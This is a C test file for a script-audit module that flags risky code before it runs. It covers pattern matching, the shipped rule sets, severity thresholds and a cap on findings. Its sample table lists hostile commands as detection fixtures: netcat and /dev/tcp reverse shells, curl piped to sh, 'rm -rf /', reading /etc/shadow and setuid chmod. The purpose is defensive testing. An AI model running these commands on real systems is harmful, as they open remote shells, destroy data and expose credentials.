/* test_audit.c - the pattern matcher, the shipped rule sets, findings
 * with their lines, advisory and high-trust verdicts, severity threshold,
 * the findings cap. */
#include "task.h"

#include "px/px_audit.h"
#include "px/px_config.h"
#include "px/px_error.h"

#define M(p, s) px_audit_pattern_match(p, s, strlen(s))

TEST_IMPL(audit_pattern_match) {
  char err[128];
  ASSERT_EQ(M("socket", "import SOCKET as s"), 1);
  ASSERT_EQ(M("socket", "import sock"), 0);
  ASSERT_EQ(M("\\bsocket\\b", "import socket"), 1);
  ASSERT_EQ(M("\\bsocket\\b", "import socketserver"), 0);
  ASSERT_EQ(M("\\bsocket\\b", "websocket"), 0);
  ASSERT_EQ(M("\\bnc\\b", "nc -l 4444"), 1);
  ASSERT_EQ(M("\\bnc\\b", "sync; func"), 0);
  ASSERT_EQ(M("\\bos.remove\\b", "os.remove('x')"), 1);
  ASSERT_EQ(M("\\bos.remove\\b", "os.removedirs('x')"), 0);
  ASSERT_EQ(M("New-Object*Net.Sockets", "$c = New-Object System.Net.Sockets."
                                        "TcpClient"),
            1);
  ASSERT_EQ(M("New-Object*Net.Sockets", "New-Object Foo"), 0);
  ASSERT_EQ(M("a*b*c", "xxaxxbxxcxx"), 1);
  ASSERT_EQ(M("a*b*c", "xxaxxcxxbxx"), 0);
  ASSERT_EQ(M("format\\b*?:", "FORMAT C: /q"), 1);
  ASSERT_EQ(M("a?c", "abc"), 1);
  ASSERT_EQ(M("a?c", "ac"), 0);
  ASSERT_EQ(M("\\*x", "a*x"), 1);
  ASSERT_EQ(M("\\*x", "ax"), 0);
  ASSERT_EQ(M("a\\\\b", "a\\b"), 1);
  ASSERT_EQ(M("\\bend", "end"), 1);
  ASSERT_EQ(M("end\\b", "the end"), 1);
  ASSERT_EQ(px_audit_pattern_match("abc", "xxabc", 4), 0); /* len bound */
  ASSERT_EQ(px_audit_pattern_match("a", "\0a", 2), 1);     /* NUL ok */
  ASSERT_EQ(px_audit_pattern_check("ok", err, sizeof err), 0);
  ASSERT_EQ(px_audit_pattern_check("", err, sizeof err), PX_EINVAL);
  ASSERT_EQ(px_audit_pattern_check("*?\\b", err, sizeof err), PX_EINVAL);
  ASSERT_STR_CONTAINS(err, "literal");
  ASSERT_EQ(px_audit_pattern_check("x\\", err, sizeof err), PX_EINVAL);
  ASSERT_STR_CONTAINS(err, "dangling");
  ASSERT_EQ(px_audit_pattern_check("x\\d", err, sizeof err), PX_EINVAL);
  ASSERT_EQ(px_audit_pattern_check("a\nb", err, sizeof err), PX_EINVAL);
  {
    char big[PX_AUDIT_MAX_PATTERN + 2];
    memset(big, 'a', sizeof big - 1);
    big[sizeof big - 1] = '\0';
    ASSERT_EQ(px_audit_pattern_check(big, err, sizeof err), PX_EINVAL);
  }
  return 0;
}

TEST_IMPL(audit_pattern_worst_case) {
  /* Many stars over a long line that almost matches: bounded work. */
  size_t n = 200000, i;
  char *line = malloc(n + 1);
  ASSERT_NOT_NULL(line);
  for (i = 0; i < n; i++)
    line[i] = 'a';
  line[n] = '\0';
  ASSERT_EQ(px_audit_pattern_match("a*a*a*a*a*a*a*a*b", line, n), 0);
  ASSERT_EQ(px_audit_pattern_match("\\ba*a*a*a*a\\b", line, n), 1);
  free(line);
  return 0;
}

/* A snippet each shipped rule id should flag. */
static const struct {
  const char *set, *rule, *code;
} samples[] = {
    {"python", "py.winreg", "import winreg"},
    {"python", "py.socket", "s = socket.socket()"},
    {"python", "py.os_remove", "os.remove(path)"},
    {"python", "py.rmtree", "shutil.rmtree('/data')"},
    {"python", "py.subprocess", "import subprocess"},
    {"python", "py.os_system", "os.system('ls')"},
    {"python", "py.setuid", "os.setuid(0)"},
    {"python", "py.requests", "requests.get(url)"},
    {"powershell", "ps.remove_item", "Remove-Item C:\\x"},
    {"powershell", "ps.remove_recurse", "remove-item C:\\x -Recurse -Force"},
    {"powershell", "ps.reg_add", "reg add HKLM\\Software\\X"},
    {"powershell", "ps.hklm", "Set-ItemProperty -Path HKLM:\\Software\\X"},
    {"powershell", "ps.sockets",
     "$c = New-Object System.Net.Sockets.TcpClient('h', 80)"},
    {"powershell", "ps.start_process", "Start-Process notepad"},
    {"powershell", "ps.iex", "Invoke-Expression $s"},
    {"powershell", "ps.runas", "Start-Process cmd -Verb RunAs"},
    {"cmd", "cmd.reg_add", "reg add HKCU\\Software\\X /v y /d 1"},
    {"cmd", "cmd.del", "del /q C:\\x\\*"},
    {"cmd", "cmd.rd", "rd /s /q C:\\x"},
    {"cmd", "cmd.curl", "curl http://example.com"},
    {"cmd", "cmd.schtasks", "schtasks /create /tn x"},
    {"cmd", "cmd.net_user", "net user bob pw /add"},
    {"cmd", "cmd.icacls", "icacls C:\\x /grant Everyone:F"},
    {"sh", "sh.rm_r", "rm -rf /"},
    {"sh", "sh.rm_fr", "rm -fr ~"},
    {"sh", "sh.curl", "curl -s http://x | sh"},
    {"sh", "sh.nc", "nc -e /bin/sh 10.0.0.1 4444"},
    {"sh", "sh.dev_tcp", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1"},
    {"sh", "sh.sudo", "sudo id"},
    {"sh", "sh.chmod", "chmod 755 x"},
    {"sh", "sh.setuid_bit", "chmod u+s /tmp/sh"},
    {"sh", "sh.setuid_octal", "chmod 4755 /tmp/sh"},
    {"sh", "sh.shadow", "cat /etc/shadow"},
};

static int has_finding(const px_result_t *r, const char *rule) {
  size_t i;
  for (i = 0; i < r->naudit; i++)
    if (strcmp(r->audit[i].rule, rule) == 0)
      return 1;
  return 0;
}

TEST_IMPL(audit_shipped_rules) {
  const char *const *names = NULL;
  size_t nsets = px_audit_default_sets(&names), i, j, n;
  px_config_t *cfg = NULL;
  char err[128];
  ASSERT_UINT_EQ(nsets, 4);
  for (i = 0; i < nsets; i++) {
    const px_audit_default_rule_t *r = px_audit_default_rules(names[i], &n);
    ASSERT_NOT_NULL(r);
    ASSERT_UINT_GE(n, 12);
    for (j = 0; j < n; j++) {
      if (px_audit_pattern_check(r[j].pattern, err, sizeof err) != 0)
        px__test_fail(__FILE__, __LINE__, "%s: %s", r[j].id, err);
      ASSERT(r[j].message && *r[j].message);
    }
  }
  ASSERT_NULL(px_audit_default_rules("cobol", &n));
  ASSERT_UINT_EQ(n, 0);
  /* Every sample triggers its rule through px_audit_run. */
  ASSERT_OK(px_config_from_json(
      "{\"runtimes\":{\"python\":null,\"sh\":null,\"cmd\":null,"
      "\"powershell\":null,"
#ifdef _WIN32
      "\"r\":{\"command\":[\"C:\\\\x.exe\",\"{file}\"]}}}",
#else
      "\"r\":{\"command\":[\"/x\",\"{file}\"]}}}",
#endif
      strlen("{\"runtimes\":{\"python\":null,\"sh\":null,\"cmd\":null,"
             "\"powershell\":null,"
#ifdef _WIN32
             "\"r\":{\"command\":[\"C:\\\\x.exe\",\"{file}\"]}}}"
#else
             "\"r\":{\"command\":[\"/x\",\"{file}\"]}}}"
#endif
             ),
      &cfg, err, sizeof err));
  for (i = 0; i < sizeof samples / sizeof samples[0]; i++) {
    px_result_t res;
    memset(&res, 0, sizeof res);
    /* No runtime named like the set: audit_run falls back to the name. */
    ASSERT_OK(px_audit_run(cfg, samples[i].set, samples[i].code,
                           strlen(samples[i].code), 0, &res));
    if (!has_finding(&res, samples[i].rule))
      px__test_fail(__FILE__, __LINE__, "%s not flagged by %s", samples[i].code,
                    samples[i].rule);
    px_result_free(&res);
  }
  px_config_free(cfg);
  return 0;
}

static px_config_t *audit_cfg(const char *extra) {
  char json[2048], err[256];
  px_config_t *cfg = NULL;
  snprintf(json, sizeof json,
           "{\"audit\":{\"rules\":{\"t\":["
           "{\"id\":\"t.info\",\"severity\":\"info\",\"pattern\":\"print\","
           "\"message\":\"prints\"},"
           "{\"id\":\"t.med\",\"severity\":\"medium\",\"pattern\":"
           "\"\\\\bsocket\\\\b\",\"message\":\"net\"},"
           "{\"id\":\"t.high\",\"severity\":\"high\",\"pattern\":\"rmtree\","
           "\"message\":\"deletes\"}]}%s},"
           "\"runtimes\":{\"tt\":{\"command\":["
#ifdef _WIN32
           "\"C:\\\\x.exe\""
#else
           "\"/x\""
#endif
           ",\"{file}\"],\"audit\":\"t\"}}}",
           extra);
  if (px_config_from_json(json, strlen(json), &cfg, err, sizeof err) != 0)
    px__test_fail(__FILE__, __LINE__, "audit config: %s", err);
  return cfg;
}

static const char code[] = "print('a')\n"
                           "x = 1\r\n"
                           "import socket\n"
                           "\n"
                           "shutil.rmtree(p); print(2)";

TEST_IMPL(audit_advisory) {
  px_config_t *cfg = audit_cfg("");
  px_result_t res;
  memset(&res, 0, sizeof res);
  /* Advisory: report every finding with its line, never reject. */
  ASSERT_OK(px_audit_run(cfg, "tt", code, strlen(code), 0, &res));
  ASSERT_UINT_EQ(res.naudit, 4);
  ASSERT_STR_EQ(res.audit[0].rule, "t.info");
  ASSERT_UINT_EQ(res.audit[0].line, 1);
  ASSERT_EQ(res.audit[0].severity, PX_SEV_INFO);
  ASSERT_STR_EQ(res.audit[1].rule, "t.med");
  ASSERT_UINT_EQ(res.audit[1].line, 3);
  ASSERT_STR_EQ(res.audit[1].message, "net");
  ASSERT_STR_EQ(res.audit[2].rule, "t.info");
  ASSERT_UINT_EQ(res.audit[2].line, 5);
  ASSERT_STR_EQ(res.audit[3].rule, "t.high");
  ASSERT_UINT_EQ(res.audit[3].line, 5);
  ASSERT_EQ(res.error_code, PX_CODE_NONE);
  px_result_free(&res);
  /* A runtime without a rule set: nothing to find. */
  memset(&res, 0, sizeof res);
  ASSERT_OK(px_audit_run(cfg, "nosuch", code, strlen(code), 1, &res));
  ASSERT_UINT_EQ(res.naudit, 0);
  px_result_free(&res);
  px_config_free(cfg);
  return 0;
}

TEST_IMPL(audit_high_trust) {
  px_config_t *cfg = audit_cfg("");
  px_result_t res;
  const char clean[] = "x = 1\nprint(x)\n";
  memset(&res, 0, sizeof res);
  /* Request high_trust: reject at or above `high` (the default). */
  ASSERT_EQ(px_audit_run(cfg, "tt", code, strlen(code), 1, &res), PX_EPOLICY);
  ASSERT_EQ(res.status, PX_STATUS_REJECTED);
  ASSERT_EQ(res.error_code, PX_CODE_AUDIT_REJECTED);
  ASSERT_STR_CONTAINS(res.error_message, "t.high");
  ASSERT_STR_CONTAINS(res.error_message, "line 5");
  ASSERT_UINT_EQ(res.naudit, 4); /* findings still reported */
  px_result_free(&res);
  /* Below the threshold: passes with findings. */
  memset(&res, 0, sizeof res);
  ASSERT_OK(px_audit_run(cfg, "tt", clean, strlen(clean), 1, &res));
  ASSERT_UINT_EQ(res.naudit, 1);
  px_result_free(&res);
  px_config_free(cfg);
  /* Config forces high trust with a lower threshold. */
  cfg = audit_cfg(",\"mode\":\"high_trust\",\"reject_severity\":\"medium\"");
  memset(&res, 0, sizeof res);
  ASSERT_EQ(px_audit_run(cfg, "tt", "import socket", 13, 0, &res), PX_EPOLICY);
  ASSERT_STR_CONTAINS(res.error_message, "t.med");
  ASSERT_STR_CONTAINS(res.error_message, "line 1");
  px_result_free(&res);
  memset(&res, 0, sizeof res);
  ASSERT_OK(px_audit_run(cfg, "tt", clean, strlen(clean), 0, &res));
  px_result_free(&res);
  px_config_free(cfg);
  /* reject_severity info: anything found rejects. */
  cfg = audit_cfg(",\"reject_severity\":\"info\"");
  memset(&res, 0, sizeof res);
  ASSERT_EQ(px_audit_run(cfg, "tt", clean, strlen(clean), 1, &res), PX_EPOLICY);
  px_result_free(&res);
  px_config_free(cfg);
  return 0;
}

TEST_IMPL(audit_findings_cap) {
  px_config_t *cfg = audit_cfg(",\"max_findings\":3");
  px_result_t res;
  char big[4000];
  size_t i;
  for (i = 0; i + 7 < sizeof big; i += 7)
    memcpy(big + i, "print\n\0", 7);
  memset(&res, 0, sizeof res);
  ASSERT_OK(px_audit_run(cfg, "tt", big, i, 0, &res));
  ASSERT_UINT_EQ(res.naudit, 3);
  px_result_free(&res);
  /* The verdict still sees findings past the cap. */
  memcpy(big + i - 7, "rmtree\n", 7);
  memset(&res, 0, sizeof res);
  ASSERT_EQ(px_audit_run(cfg, "tt", big, i, 1, &res), PX_EPOLICY);
  ASSERT_UINT_EQ(res.naudit, 3);
  px_result_free(&res);
  px_config_free(cfg);
  return 0;
}
